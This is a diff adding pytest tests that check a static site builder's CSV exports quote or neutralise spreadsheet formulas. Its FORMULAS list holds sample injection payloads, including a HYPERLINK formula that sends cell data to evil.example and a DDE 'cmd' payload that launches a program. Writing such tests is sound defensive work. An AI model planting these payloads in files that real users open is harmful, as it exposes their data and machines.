@@ -6,17 +6,22 @@ independent reader (the icalendar library, xml.etree, the csv module)."""
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
+import io
 import re
 import xml.etree.ElementTree as ElementTree
+import zipfile
 from pathlib import Path
 
 import icalendar
 import pytest
 
+from site_builder import cli
 from site_builder.feeds import CalendarEvent, FeedItem, SitemapEntry, atom_feed, sitemap
 from site_builder.feeds import icalendar as write_calendar
 from site_builder.pipeline import build
+from site_builder.spreadsheet import csv_text, read_cell
 from site_builder.xmltext import xml_attribute, xml_chars, xml_text
 from tests.sites import TinySite
 
@@ -129,7 +134,9 @@ def test_built_event_calendar_keeps_the_place_in_its_property(
 
 def hostile_text(hostile: str) -> str:
     """The YAML double-quoted escapes in HOSTILE_YAML, as the value the writer typed."""
-    return hostile.replace("\\r", "\r").replace("\\n", "\n").replace("\\\\", "\\")
+    return (
+        hostile.replace("\\r", "\r").replace("\\n", "\n").replace("\\t", "\t").replace("\\\\", "\\")
+    )
 
 
 # --- XML: every character XML 1.0 does not allow is removed --------------------------------------
@@ -211,3 +218,99 @@ def test_every_xml_file_built_parses_with_control_characters_in_titles(
     feed = ElementTree.parse(tiny_site.root / "output/feed.xml").getroot()
     titles = [t.text for t in feed.iter("{http://www.w3.org/2005/Atom}title")]
     assert "Award winners" in titles and "Testford technicians: news and events" in titles
+
+
+# --- CSV: no cell runs as a formula in a spreadsheet --------------------------------------------
+
+FORMULAS = [
+    "=1+1",
+    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "+SUM(A1:A9)",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "=cmd|' /C calc'!A0",
+    "'=already quoted",
+    "''+twice",
+    "＝1+1",
+]
+HARMLESS = ["-3", "+1.5", "-0.25", "Plain text", "a = b", "", "'just a quote", "e-mail"]
+DANGER = tuple("=+-@\t\r\n＝＋－＠")
+
+
+def _is_safe(cell: str) -> bool:
+    return not cell.startswith(DANGER) or re.fullmatch(r"[+-][\d.]+", cell) is not None
+
+
+@pytest.mark.parametrize("value", FORMULAS + HARMLESS)
+def test_a_csv_cell_is_quoted_text_or_harmless_and_reads_back(value: str) -> None:
+    text = csv_text(["a", "b"], [[value, "x"]])
+    assert text.startswith("\ufeff")
+    (header, row) = list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))
+    assert header == ["a", "b"] and _is_safe(row[0]) and row[1] == "x"
+    assert row[0] == value or row[0] == "'" + value
+    assert read_cell(row[0]) == value
+    assert text.lstrip("\ufeff").startswith('"a","b"\r\n"')  # every field is quoted
+
+
+PLAN_WITH = """\
+title: Action plan 2025-2028
+period: {{start: 2025-09-01, end: 2028-08-31}}
+current: true
+themes:
+  visibility:
+    goal: Make technical work seen.
+    actions:
+      - title: "{value} in the title"
+        details: "{value}"
+        lead: ["{value}", Web team]
+        evidence: "{value}"
+        status: complete
+  recognition:
+    goal: Recognise technical contributions.
+    actions:
+      - title: Start an annual award
+  career_development:
+    goal: Grow careers.
+    actions:
+      - title: Fund registration fees
+  sustainability:
+    goal: Plan for the future workforce.
+    actions:
+      - title: Start an apprenticeship scheme
+"""
+
+# YAML double-quoted forms of hostile plan cells (a tab and a CR typed as escapes).
+PLAN_VALUES = ["=1+1", "+SUM(A1)", "-2+3", "@SUM(1)", "\\t=1+1", "\\r=1+1", "=HYPERLINK(A1)"]
+
+
+def _csv_rows(data: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+
+
+@pytest.mark.parametrize("value", PLAN_VALUES)
+def test_plan_csv_download_and_cms_manifest_never_hold_a_formula(
+    tiny_site: TinySite, tmp_path: Path, value: str
+) -> None:
+    tiny_site.write("content/plans/2025-2028.yaml", PLAN_WITH.format(value=value))
+    tiny_site.write(
+        "content/pages/about.md", f'---\ntitle: "{value}"\nsummary: "{value}"\n---\nx\n'
+    )
+    build(tiny_site.options())
+    (download,) = (tiny_site.root / "output").rglob("2025-2028.csv")
+    out = tmp_path / "cms.zip"
+    command = ["export", "cms", "-q", "--content", str(tiny_site.content), "--out", str(out)]
+    assert cli.main([*command, "--today", "2026-11-24"]) == 0
+    with zipfile.ZipFile(out) as archive:
+        manifest = archive.read("manifest.csv")
+    typed = hostile_text(value)
+    for data in (download.read_bytes(), manifest):
+        rows = _csv_rows(data)
+        cells = [cell for row in rows for cell in row]
+        assert all(_is_safe(cell) for cell in cells), [c for c in cells if not _is_safe(c)]
+        # the value is there, as text (validation strips a title's leading tab or CR)
+        assert {"'" + typed, "'" + typed.strip()} & set(cells)
+    plan = _csv_rows(download.read_bytes())
+    assert read_cell(plan[1][plan[0].index("details")]) in {typed, typed.strip()}
